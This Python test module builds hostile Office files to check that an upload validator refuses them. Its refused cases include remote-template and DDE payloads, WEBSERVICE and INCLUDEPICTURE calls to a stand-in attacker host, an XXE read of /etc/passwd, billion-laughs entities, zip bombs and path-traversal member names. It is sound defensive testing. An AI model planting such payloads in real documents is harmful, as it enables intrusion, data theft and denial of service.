"""Office documents: an archive of XML, built by hand so that every wrong thing can be written on purpose."""

import io
import zipfile

from tests.submissions.hostile.case import OLD, Case, zeros
from tests.submissions.hostile.case import UNSOUND as BROKEN
from tests.submissions.hostile.paper import pdf
from tests.submissions.hostile.pictures import drawn, exif

OFFICE = "application/vnd.openxmlformats-officedocument."
DOCX = f"{OFFICE}wordprocessingml.document"
XLSX = f"{OFFICE}spreadsheetml.sheet"
PPTX = f"{OFFICE}presentationml.presentation"
MAIN = {DOCX: "word/document.xml", XLSX: "xl/workbook.xml", PPTX: "ppt/presentation.xml"}
TEXT = b"<w:document xmlns:w='w'><w:p>%s</w:p></w:document>"
LOCKED = "terkunci kata sandi"
LARGE, ACTIVE, LINKED, MIXED = "terlalu besar setelah dibuka", "makro atau objek lain", "isi dari luar", "bercampur"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def rels(*rows):
    body = "".join(
        f'<Relationship Id="r{n}" Type="{REL}{kind}" Target="{target}" TargetMode="{mode or "Internal"}"/>'
        for n, (kind, target, mode) in enumerate(rows)
    )
    return f'<Relationships xmlns="r">{body}</Relationships>'.encode()


def members(kind=DOCX, *, text=b"", main_type=None, types="", links=(), main=None):
    path = MAIN[kind]
    main_type = main_type or f"{kind}.main+xml"
    declared = (
        '<Types><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{types}'
        f'<Override PartName="/{path}" ContentType="{main_type}"/></Types>'
    )
    folder, _slash, name = path.partition("/")
    found = {
        "[Content_Types].xml": declared.encode(),
        "_rels/.rels": rels(("officeDocument", path, "")),
        path: TEXT % text if main is None else main,
    }
    return {**found, f"{folder}/_rels/{name}.rels": rels(*links)} if links else found


def packed(parts, *, pack=zipfile.ZIP_DEFLATED):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", pack) as archive:
        for name, content in parts.items() if isinstance(parts, dict) else parts:
            archive.writestr(name, content)
    return target.getvalue()


def docx(more=None, **about):
    return packed({**members(**about), **(more or {})})


def patched(content, before, after, times=-1):
    assert before in content
    return content.replace(before, after, times)


def overlapping():
    """The second entry of the directory points at the first member."""
    content = bytearray(docx({"a.xml": b"<a/>", "b.xml": b"<a/>"}))
    last = content.rindex(b"PK\1\2")
    first = content.rindex(b"PK\1\2", 0, last)
    content[last + 42 : last + 46] = content[first + 42 : first + 46]
    return bytes(content)


def lying(at, value, width=4):
    """A directory whose last entry says another number."""
    content = bytearray(docx({"a.xml": b"<a>" + b"x" * 900 + b"</a>"}))
    place = content.rindex(b"PK\1\2") + at
    content[place : place + width] = value.to_bytes(width, "little")
    return bytes(content)


def bomb(megabytes):
    target, body = io.BytesIO(), zeros(megabytes, raw=True)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as archive:
        for name, content in members().items():
            archive.writestr(name, content)
        archive.writestr("word/media/a.png", body)
    content = bytearray(target.getvalue())
    size = (megabytes * 1024 * 1024).to_bytes(4, "little")
    for mark, method, unpacked in ((b"PK\3\4", 8, 22), (b"PK\1\2", 10, 24)):
        place = content.rindex(mark)
        content[place + method : place + method + 2] = b"\x08\0"
        content[place + unpacked : place + unpacked + 4] = size
    return bytes(content)


def laughs():
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE l [<!ENTITY l0 "ha">{lines}]><l>&l9;</l>'.encode()


def kept():
    for kind in (DOCX, XLSX, PPTX):
        yield f"plain.{kind[-9:]}.x", lambda kind=kind: docx(kind=kind), kind
    link = ("hyperlink", "https://surakarta.go.id", "External")
    yield "link.docx", lambda: docx(links=[link]), DOCX
    yield "stored.docx", lambda: packed(members(), pack=zipfile.ZIP_STORED), DOCX
    yield "photo.docx", lambda: docx({"word/media/a.jpeg": drawn("JPEG", exif=exif())}), DOCX
    yield "printer.xlsx", lambda: docx({"xl/printerSettings/printerSettings1.bin": b"x"}, kind=XLSX), XLSX
    yield "chart.docx", lambda: docx({"word/embeddings/tabel.xlsx": docx(kind=XLSX)}), DOCX
    yield "speaks-of-dde.docx", lambda: docx(text=b"<w:t>DDEAUTO cmd</w:t>"), DOCX
    yield "page-number.docx", lambda: docx(text=b"<w:instrText>PAGE</w:instrText>"), DOCX
    summed = b"<f>SUM(IMAGES!A1:A3)</f><t>WEBSERVICE(</t>"
    yield "formula.xlsx", lambda: docx({"xl/worksheets/a.xml": b"<a>%s</a>" % summed}, kind=XLSX), XLSX
    yield "link-with-a-switch.docx", lambda: docx(text=b"<w:instrText>HYPERLINK https://a.id</w:instrText>"), DOCX
    yield "named-as-a-picture.jpg", docx, DOCX


def refused():
    yield "macros.docx", lambda: docx({"word/vbaProject.bin": b"x"}), ACTIVE
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield "macros-by-type.docx", lambda: docx(main_type=enabled), ACTIVE
    hidden = '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>'
    yield "macros-hidden.docx", lambda: docx({"word/a.xml": b"<a/>"}, types=hidden), ACTIVE
    inner = docx({"xl/vbaProject.bin": b"x"}, kind=XLSX)
    yield "macros-inside.docx", lambda: docx({"word/embeddings/a.xlsx": inner}), ACTIVE
    yield (
        "three-deep.docx",
        lambda: docx({"word/embeddings/a.docx": docx({"word/embeddings/b.xlsx": docx(kind=XLSX)})}),
        ACTIVE,
    )
    yield "ole.docx", lambda: docx({"word/embeddings/oleObject1.bin": b"x"}), ACTIVE
    yield "ole-by-relationship.docx", lambda: docx(links=[("oleObject", "media/a.png", "")]), ACTIVE
    yield "active-x.docx", lambda: docx({"word/activeX/activeX1.xml": b"<a/>"}), ACTIVE
    yield "page-of-the-web-inside.docx", lambda: docx(links=[("aFChunk", "a.xml", "")]), ACTIVE
    yield "program-inside.docx", lambda: docx({"word/media/a.exe": b"MZ"}), ACTIVE
    for kind in ("attachedTemplate", "image", "frame", "externalLinkPath", "subDocument", "oleObject"):
        for target in ("https://jahat.example/a", r"\\jahat.example\a"):
            verdict = ACTIVE if kind in ("frame", "subDocument", "oleObject") else LINKED
            name = f"{kind.lower()}-{'web' if '//' in target else 'share'}.docx"
            yield name, lambda kind=kind, target=target: docx(links=[(kind, target, "External")]), verdict
    for number, target in enumerate(("file:///etc/passwd", r"\\jahat.example\a", "javascript:alert(1)")):
        yield f"link-{number}.docx", lambda target=target: docx(links=[("hyperlink", target, "External")]), LINKED
    parts = b"<w:instrText>DDE</w:instrText><w:t/><w:instrText>AUTO cmd</w:instrText>"
    yield "dde.docx", lambda: docx(text=parts), LINKED
    yield "dde-simple.docx", lambda: docx(text=b'<w:fldSimple w:instr=" dde cmd"/>'), LINKED
    yield "dde.xlsx", lambda: docx({"xl/externalLinks/a.xml": b"<ddeLink/>"}, kind=XLSX), LINKED
    yield (
        "fetches-a-picture.docx",
        lambda: docx(text=b'<w:instrText>INCLUDEPICTURE "http://jahat.example/a"</w:instrText>'),
        LINKED,
    )
    place = rb"\\\\jahat.example\\a"
    yield "link-field.docx", lambda: docx(text=b"<w:instrText>LINK Excel.Sheet.12 %s</w:instrText>" % place), LINKED
    yield "database-field.docx", lambda: docx(text=b"<w:instrText>DATABASE \\d %s</w:instrText>" % place), LINKED
    fetching = b"<f>1+_xlfn.WEB<!-- -->SERVICE(&quot;https://jahat.example&quot;)</f>"
    yield "fetching-formula.xlsx", lambda: docx({"xl/worksheets/a.xml": fetching}, kind=XLSX), LINKED
    kind_of = f'<Override PartName="/xl/connections.xml" ContentType="{OFFICE}spreadsheetml.connections+xml"/>'
    yield "connection.xlsx", lambda: docx({"xl/connections.xml": b"<a/>"}, kind=XLSX, types=kind_of), LINKED
    entity = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    yield "entity.docx", lambda: docx(main=entity), BROKEN
    yield "laughs.docx", lambda: docx(main=laughs()), BROKEN
    yield "doctype-alone.docx", lambda: docx(main=b"<!DOCTYPE a><a/>"), BROKEN
    yield "torn-xml.docx", lambda: docx(main=b"<a><b></a>"), BROKEN
    wrong = ("../a.xml", "/etc/a.xml", r"word\a.xml", "C:/a.xml", "a/./b.xml", "a//b.xml", "a\n.xml")
    for number, name in enumerate(wrong):
        yield f"name-{number}.docx", lambda name=name: docx({name: b"<a/>"}), BROKEN
    yield "nul-in-a-name.docx", lambda: patched(docx({"wordXa.xml": b"<a/>"}), b"wordXa", b"word\0a"), BROKEN
    yield "twice.docx", lambda: packed([*members().items(), ("WORD/document.xml", b"<a/>")]), BROKEN
    yield "no-types.docx", lambda: packed({"word/document.xml": b"<a/>"}), BROKEN
    yield "other-main-part.docx", lambda: docx(main_type="application/xml"), BROKEN
    yield "archive.docx", lambda: packed({"a.txt": b"a"}), BROKEN
    yield "encrypted.docx", lambda: lying(8, 1, 2), LOCKED
    yield "password.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), LOCKED
    yield "old.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), OLD
    yield "overlapping.docx", overlapping, BROKEN
    yield "wrong-sum.docx", lambda: lying(16, 1), BROKEN
    yield "says-less.docx", lambda: lying(24, 10), BROKEN
    yield "says-more.docx", lambda: lying(24, 2000), BROKEN
    yield "packed-size-beyond.docx", lambda: lying(20, 10_000), BROKEN
    yield "size-of-zip64.docx", lambda: lying(24, 0xFFFFFFFF), LARGE
    yield "other-packing.docx", lambda: lying(10, 14, 2), BROKEN
    yield "program-first.docx", lambda: b"PK\3\4MZ" + docx(), BROKEN
    yield "pdf-last.docx", lambda: docx() + pdf(), MIXED
    yield "two-archives.docx", lambda: docx() + docx(), BROKEN
    yield "half.docx", lambda: docx()[:200], BROKEN
    yield "number-of-members-lies.docx", lambda: docx()[:-14] + b"\1\0\1\0" + docx()[-10:], BROKEN


def bombs():
    yield "zeros-of-a-gigabyte.docx", lambda: bomb(1024), LARGE
    yield "zeros-of-ninety-megabytes.docx", lambda: bomb(90), LARGE
    yield "three-thousand-members.docx", lambda: docx({f"a{n}.xml": b"<a/>" for n in range(3000)}), LARGE
    yield "fifty-thousand-members.docx", lambda: docx({f"a{n}.xml": b"<a/>" for n in range(50_000)}), LARGE
    yield "xml-to-the-sky.docx", lambda: docx(main=b"<a>" * 300_000), BROKEN
    yield "long-attribute.docx", lambda: docx(main=b"<a b='" + bytes(range(65, 91)) * 30_000 + b"'/>"), DOCX


def cases():
    yield from (Case(f"office-{name}", make, verdict) for group in (kept, refused) for name, make, verdict in group())
    yield from (Case(f"office-{name}", make, verdict, is_bomb=True) for name, make, verdict in bombs())
